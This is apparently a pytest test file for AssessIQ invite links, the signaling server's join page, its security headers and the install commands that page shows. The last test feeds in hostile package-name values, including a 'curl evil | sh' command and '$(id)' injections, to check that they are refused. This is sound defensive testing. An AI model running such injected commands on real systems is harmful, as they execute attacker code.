"""Invite links that open: the https join page the signaling server serves, and `assessiq join`
taking an https link, a bare invite or an `assessiq://` link alike."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import importlib
import logging
import re
from pathlib import Path

import httpx
import pytest

from assessiq import cli
from assessiq.core.errors import InviteError
from assessiq.core.identity import Identity
from assessiq.core.invite import Invite, make_invite
from signaling.joinpage import JOIN_PATH, join_page
from signaling.testing import running_server

HOST = Identity.generate()
INVITE = make_invite(HOST, signaling="wss://signal.example.org/ws")
TEXT = INVITE.encode()
FORMS = {
    "bare": TEXT,
    "assessiq": INVITE.link(),
    "https": f"https://signal.example.org/join#{TEXT}",
}


def test_web_link_is_the_signaling_servers_join_page():
    assert INVITE.web_link() == f"https://signal.example.org{JOIN_PATH}#{TEXT}"
    lan = make_invite(HOST, signaling="ws://192.168.1.20:8765", lan=True)
    assert lan.web_link() == f"http://192.168.1.20:8765{JOIN_PATH}#{lan.encode()}"
    assert make_invite(HOST, lan=True).web_link() is None  # no server to serve the page
    # a server a proxy serves under a prefix: its page is beside its websocket
    proxied = make_invite(HOST, signaling="wss://example.org/team/signal/ws")
    assert proxied.web_link() == f"https://example.org/team/signal/join#{proxied.encode()}"


@pytest.mark.parametrize("form", list(FORMS))
def test_every_link_form_decodes_to_the_same_invite(form):
    assert Invite.decode(FORMS[form]).id == INVITE.id


@pytest.mark.parametrize("text", ["https://signal.example.org/join",
                                  "https://signal.example.org/join#",
                                  "https://signal.example.org/join#hello"])
def test_a_web_link_without_its_fragment_says_so(text):
    with pytest.raises(InviteError, match="after '#'"):
        Invite.decode(text)


def test_a_web_link_with_a_damaged_invite_is_refused():
    # (cut inside the signature: its base64 may still decode, to a signature that fails)
    with pytest.raises(InviteError, match=r"truncated or damaged|altered or forged"):
        Invite.decode(FORMS["https"][:-20])


@pytest.mark.parametrize("form", list(FORMS))
def test_assessiq_join_takes_each_form(form, monkeypatch, capsys, data_dir):
    """The command as a candidate runs it: the invite is checked, the fingerprint printed, and
    the app would be served (`serve` is replaced, so no server starts)."""
    served = []
    # (by the module object the command will import: another test may have re-imported the
    # package, leaving `assessiq.ui` without its `app` attribute)
    monkeypatch.setattr(importlib.import_module("assessiq.ui.app"), "serve",
                        lambda state, *a, **kw: served.append(state))
    assert cli.main(["join", FORMS[form], "--no-browser", "--camera", "none",
                     "--microphone", "none"]) == 0
    assert served[0].candidate.invite.id == INVITE.id
    assert HOST.fingerprint in capsys.readouterr().out


def test_assessiq_join_refuses_a_link_without_its_invite(capsys, data_dir):
    assert cli.main(["join", "https://signal.example.org/join", "--no-browser"]) == 2
    assert "after '#'" in capsys.readouterr().err


# ---- the page ------------------------------------------------------------------------------


def _hash(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def test_the_page_loads_nothing_from_elsewhere():
    html = join_page()[0].decode()
    for pattern in (r"\bsrc\s*=", r"\bhref\s*=", r"url\(", r"@import", r"<link\b", r"<iframe\b",
                    r"<img\b", r"fetch\(", r"XMLHttpRequest", r"WebSocket", r"\.src\b"):
        assert not re.search(pattern, html, re.I), pattern


async def test_the_server_serves_the_page_with_a_strict_policy():
    async with running_server() as server, httpx.AsyncClient() as client:
        r = await client.get(f"http://127.0.0.1:{server.port}{JOIN_PATH}?utm=x")
        other = await client.get(f"http://127.0.0.1:{server.port}/join/x")
    assert r.status_code == 200 and other.status_code == 404
    assert r.headers["content-type"] == "text/html; charset=utf-8"
    assert r.content == join_page()[0]
    csp = dict(part.strip().split(" ", 1) for part in r.headers["content-security-policy"]
               .split(";"))
    assert csp["default-src"] == "'none'"
    (script,) = re.findall(r"<script>(.*?)</script>", r.text, re.S)
    (style,) = re.findall(r"<style>(.*?)</style>", r.text, re.S)
    assert csp["script-src"] == _hash(script) and csp["style-src"] == _hash(style)
    assert r.headers["referrer-policy"] == "no-referrer"


async def test_the_fragment_never_reaches_a_log(caplog):
    """A browser never sends the fragment; a client that does (here, by hand) still gets the
    page, and nothing of the invite is logged at any level."""
    caplog.set_level(logging.DEBUG)
    async with running_server() as server:
        reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
        writer.write(f"GET {JOIN_PATH}#{TEXT} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        await writer.drain()
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
        writer.close()
    assert head.startswith(b"HTTP/1.1 200")
    assert caplog.records  # the server did log (its start, the request): none of it the invite
    assert TEXT[5:40] not in caplog.text


def test_the_page_shows_the_command_with_the_invite():
    """In a real (headless) browser: the page reads its fragment and shows the one command."""
    from browser_helpers import by_testid, chromium, require_browser

    require_browser()

    async def serve(done: asyncio.Event, port: asyncio.Future[int]) -> None:
        async with running_server() as server:
            port.set_result(server.port)
            await done.wait()

    loop = asyncio.new_event_loop()
    done, port = asyncio.Event(), loop.create_future()
    task = loop.create_task(serve(done, port))
    loop.run_until_complete(port)
    import threading

    thread = threading.Thread(target=loop.run_until_complete, args=(task,), daemon=True)
    thread.start()
    try:
        with chromium() as driver:
            driver.get(f"http://127.0.0.1:{port.result()}{JOIN_PATH}#{TEXT}")
            command = by_testid(driver, "command").text
            short = by_testid(driver, "short").text
            driver.find_element("css selector", 'button[data-os="windows"]').click()
            windows = by_testid(driver, "command").text
            driver.get(f"http://127.0.0.1:{port.result()}{JOIN_PATH}?again#nothing")  # a new load
            missing = driver.find_element("id", "no-invite").is_displayed()
    finally:
        loop.call_soon_threadsafe(done.set)
        thread.join(10)
    assert short == f'uvx --python 3.12 --from "assessiq[candidate]" assessiq join "{TEXT}"'
    assert command.startswith("curl -LsSf https://astral.sh/uv/install.sh | sh && ")
    assert command.endswith(short)
    assert windows.startswith("powershell -ExecutionPolicy ByPass -c ")
    assert windows.endswith(short.replace("uvx ", "uvx.exe ", 1))
    assert missing
    # README's install section gives the very same three commands
    readme = (Path(__file__).parent.parent / "README.md").read_text()
    for shown in (command, windows, short):
        assert shown.replace(TEXT, "INVITE") in readme.splitlines()


def test_the_operator_names_the_package_and_nothing_can_break_out_of_the_command():
    """Until AssessIQ is on PyPI a bare name is one anyone could publish: the operator sets
    ASSESSIQ_JOIN_PACKAGE (a release, or a wheel's URL); text that could end the quoted
    requirement in a shell is refused for the default."""
    from signaling.joinpage import DEFAULT_PACKAGE, join_package

    wheel = "assessiq[candidate] @ https://example.org/assessiq-0.1.0-py3-none-any.whl"
    assert join_package({}) == DEFAULT_PACKAGE
    assert join_package({"ASSESSIQ_JOIN_PACKAGE": f" {wheel} "}) == wheel
    for hostile in ('x"; curl evil | sh; "', "x$(id)", "x`id`", "x\\", "</script>"):
        assert join_package({"ASSESSIQ_JOIN_PACKAGE": hostile}) == DEFAULT_PACKAGE
    html, csp = join_page(wheel)
    assert f'var pkg = "{wheel}";' in html.decode()
    # the inline script's hash follows the text it carries
    assert csp != join_page(DEFAULT_PACKAGE)[1]
